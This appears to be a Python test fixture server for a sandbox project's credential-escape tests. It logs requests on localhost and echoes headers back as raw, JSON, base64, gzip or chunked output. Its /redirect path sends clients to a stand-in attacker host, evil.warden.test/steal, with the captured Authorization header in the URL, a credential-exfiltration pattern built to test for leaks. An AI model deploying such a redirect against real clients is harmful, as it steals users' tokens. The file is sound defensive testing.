"""The servers of the escape battery's credential cases (tests/escape/credential.rs),
on the host's 127.0.0.1 port 0; prints its port as its first line, then serves until
killed. Everything it receives is appended to LOG, one JSON line per event:

    {"conn": N, "event": "open"}                       a TCP connection was accepted
    {"conn": N, "event": "handshake failed", "error": ...}
    {"conn": N, "event": "request", "head": ..., "body": ...}   one whole request as received
    {"conn": N, "event": "rest", "bytes": ...}         bytes received that made no whole request

    credential_serve.py LOG CERT KEY [EVIL_PORT]      CERT "-": plain HTTP

Answers by path: /raw the request head back; /json its headers as a JSON object;
/base64 the head base64-encoded; /gzip the head gzip-compressed (Content-Encoding:
gzip); /chunked the head in 7-byte chunks; /redirect 302 to
https://evil.warden.test:EVIL_PORT/steal?t=<the Authorization it got, percent-encoded>
(and the same in a Refresh header and the body); anything else 200 "ok".
"""

import base64
import gzip
import json
import socket
import ssl
import sys
import threading
import urllib.parse

log, cert, key = sys.argv[1:4]
evil = sys.argv[4] if len(sys.argv) > 4 else "0"
lock = threading.Lock()
MAX = 1 << 20
count = [0]


def note(entry):
    with lock, open(log, "a") as f:
        f.write(json.dumps(entry) + "\n")


def text(b):
    return b.decode("latin-1")


class Reader:
    def __init__(self, sock):
        self.sock, self.buf = sock, b""

    def more(self):
        d = self.sock.recv(65536)
        if not d:
            raise EOFError
        self.buf += d
        if len(self.buf) > MAX:
            raise EOFError

    def until(self, sep):
        while sep not in self.buf:
            self.more()
        i = self.buf.index(sep) + len(sep)
        out, self.buf = self.buf[:i], self.buf[i:]
        return out

    def exactly(self, n):
        while len(self.buf) < n:
            self.more()
        out, self.buf = self.buf[:n], self.buf[n:]
        return out


def headers_of(head):
    lines = text(head).split("\r\n")
    out = []
    for line in lines[1:]:
        if ":" in line:
            k, v = line.split(":", 1)
            out.append((k.strip(), v.strip()))
    return lines[0], out


def body_of(r, headers):
    h = {k.lower(): v for k, v in headers}
    if h.get("transfer-encoding", "").lower() == "chunked":
        out = b""
        while True:
            size = int(r.until(b"\r\n").split(b";")[0].strip() or b"0", 16)
            if size == 0:
                r.until(b"\r\n")
                return out
            out += r.exactly(size)
            r.until(b"\r\n")
    n = int(h.get("content-length") or 0)
    return r.exactly(min(n, MAX)) if n else b""


def answer(line, headers, head):
    path = (line.split(" ") + ["", ""])[1].split("?")[0]
    auth = dict((k.lower(), v) for k, v in headers).get("authorization", "")
    extra = []
    if path == "/raw":
        body = head
    elif path == "/json":
        body = json.dumps(dict(headers)).encode()
    elif path == "/base64":
        body = base64.b64encode(head) + b"\n"
    elif path == "/gzip":
        body = gzip.compress(head)
        extra.append(("Content-Encoding", "gzip"))
    elif path == "/chunked":
        parts = [head[i : i + 7] for i in range(0, len(head), 7)]
        chunks = b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in parts) + b"0\r\n\r\n"
        return b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks
    elif path == "/redirect":
        where = "https://evil.warden.test:%s/steal?t=%s" % (evil, urllib.parse.quote(auth, safe=""))
        extra += [("Location", where), ("Refresh", "0; url=" + where)]
        body = ("moved to " + where + "\n").encode()
    else:
        body = b"ok\n"
    status = "302 Found" if path == "/redirect" else "200 OK"
    out = "HTTP/1.1 %s\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n" % (status, len(body))
    out += "".join("%s: %s\r\n" % kv for kv in extra)
    return out.encode("latin-1") + b"\r\n" + body


def serve(conn, n):
    note({"conn": n, "event": "open"})
    if cert != "-":
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(cert, key)
        try:
            conn.settimeout(10)
            conn = ctx.wrap_socket(conn, server_side=True)
        except (OSError, ssl.SSLError) as e:
            note({"conn": n, "event": "handshake failed", "error": str(e)})
            return
    conn.settimeout(10)
    r = Reader(conn)
    try:
        while True:
            head = r.until(b"\r\n\r\n")
            line, headers = headers_of(head)
            body = body_of(r, headers)
            note({"conn": n, "event": "request", "head": text(head), "body": text(body)})
            conn.sendall(answer(line, headers, head))
    except (EOFError, OSError, ValueError):
        pass
    if r.buf:
        note({"conn": n, "event": "rest", "bytes": text(r.buf)})
    try:
        conn.close()
    except OSError:
        pass


listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(64)
print(listener.getsockname()[1], flush=True)
while True:
    c, _ = listener.accept()
    count[0] += 1
    threading.Thread(target=serve, args=(c, count[0]), daemon=True).start()
